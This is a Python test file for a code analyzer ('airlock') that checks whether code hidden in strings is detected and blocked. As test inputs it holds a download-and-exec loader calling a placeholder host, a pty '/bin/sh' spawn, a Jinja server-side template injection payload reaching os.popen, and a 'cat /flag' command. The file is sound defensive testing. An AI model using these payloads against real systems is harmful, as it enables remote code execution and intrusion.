"""Code held in strings is analysed as code, within a bound per scan."""

from __future__ import annotations

from airlock.analyzer.embedded import MAX_TOTAL
from airlock.analyzer.models import Verdict
from airlock.analyzer.scan import scan

STAGE = "from urllib.request import urlopen\nexec(urlopen('https://example.invalid/p').read())\n"


def rules(report) -> set[str]:  # type: ignore[no-untyped-def]
    return {f.rule_id for f in report.active_findings}


def test_a_second_stage_written_to_a_file_is_judged_as_code() -> None:
    source = f"import tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write({STAGE!r})\n"
    report = scan(source)
    assert report.verdict == Verdict.block and "AIR-EXEC-003" in rules(report)
    finding = next(f for f in report.active_findings if f.rule_id == "AIR-EXEC-003")
    assert finding.line == 3 and finding.message.startswith("code held in a string")
    # control: the same text as a docstring is nothing anyone runs
    assert "AIR-EXEC-003" not in rules(scan(f'"""{STAGE}"""\n'))


def test_python_dash_c_in_a_shell_line_is_judged_as_code() -> None:
    inner = "import pty; pty.spawn('/bin/sh')"
    report = scan(f"import os\nos.system({('python3 -c ' + chr(34) + inner + chr(34))!r})\n")
    assert (
        "AIR-PROC-014" in rules(report)
        or "AIR-PRIV-001" in rules(report)
        or any(f.message.startswith("code held in a string") for f in report.active_findings)
    ), rules(report)


def test_embedded_analysis_stops_at_its_budget() -> None:
    pad = "# " + "x" * 60 + "\n"
    body = "import os\nos.system('id')\n" + pad * ((MAX_TOTAL * 2 // 5) // len(pad))
    first, second, third = (f"s{i} = {body + f'# {i}'!r}\n" for i in range(3))
    report = scan(first + second + third + "open('a.py', 'w').write(s0 + s1 + s2)\n")
    lines = {f.line for f in report.active_findings if f.rule_id == "AIR-PROC-001"}
    assert lines == {1, 2}, lines  # two strings of 40 % fit the budget; the third does not


def _is_program_by_parsing(text: str) -> bool:
    """`_is_program` without its pre-filter: every hinted text is parsed."""
    import ast
    import warnings

    from airlock.analyzer.embedded import HINT, MAX_BYTES, MIN_CHARS

    if len(text) < MIN_CHARS or len(text) > MAX_BYTES or "\x00" in text:
        return False
    if not HINT.search(text):
        return False
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError, MemoryError, OverflowError):
        return False
    return any(isinstance(n, (ast.Call, ast.Import, ast.ImportFrom)) for n in ast.walk(tree))


PIECES = [
    "import", "from", " ", "os", "exec", "open", "system", "(", ")", "'x'", ".", "\n",
    "    ", "=", ":", "@", "class ", "def ", "f", "lambda", "#", "\\", ";", ",", "[", "]",
    "ｉｍｐｏｒｔ", "（", "）", "ｆ", "imp\\\nort", "__import__", "loads", "b64decode",
]  # fmt: skip


def test_the_pre_filter_rejects_only_what_cannot_parse_to_a_call_or_an_import() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from airlock.analyzer.embedded import _is_program

    for text in [
        "open the file for reading", "import os", "from os import path", "exec(code)",
        "@decorator(1)\ndef f(): pass  # open", "class A(B): system = 1",
        "x = [open for open in y]", "ｉｍｐｏｒｔ os  # open", "ｆ(1)  # open", "print（1） # open",
        "if x:\n    import sys\n", "loads = lambda s: s  # b64decode",
    ]:  # fmt: skip
        assert _is_program(text) == _is_program_by_parsing(text), text

    @settings(max_examples=400, deadline=None)
    @given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
    def same(text: str) -> None:
        assert _is_program(text) == _is_program_by_parsing(text)

    same()


def test_a_template_injection_payload_is_judged_as_the_code_it_runs() -> None:
    ssti = "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"
    source = f"import requests\nrequests.post('http://t/render', data={{'name': {ssti!r}}})\n"
    report = scan(source)
    assert report.verdict == Verdict.block and "AIR-ESC-002" in rules(report)
    wrapped = 'foo(\'%{__import__("os").system("cat /flag")}\', y=1)\n'
    assert {"AIR-OBF-013", "AIR-PROC-001"} <= rules(scan(wrapped))
    # control: an ordinary template renders names and loops, and runs nothing
    page = "Hello {{ name.upper() }} {% for x in items %}{{ x|e }}{% endfor %} ${price}"
    assert scan(f"from jinja2 import Template\nTemplate({page!r}).render()\n").verdict == (
        Verdict.allow
    )


def test_template_openers_in_hostile_text_are_bounded() -> None:
    from airlock.analyzer.embedded import MAX_TEMPLATE_CHARS, MAX_TEMPLATES, _template_expressions

    hostile = "${" * 50_000  # never closed: each opener would otherwise scan to the end
    assert _template_expressions(hostile) == []
    closed = "{{ x }}" * 100
    assert len(_template_expressions(closed)) == MAX_TEMPLATES
    assert _template_expressions("${" + "a" * (MAX_TEMPLATE_CHARS + 10) + "}") == []
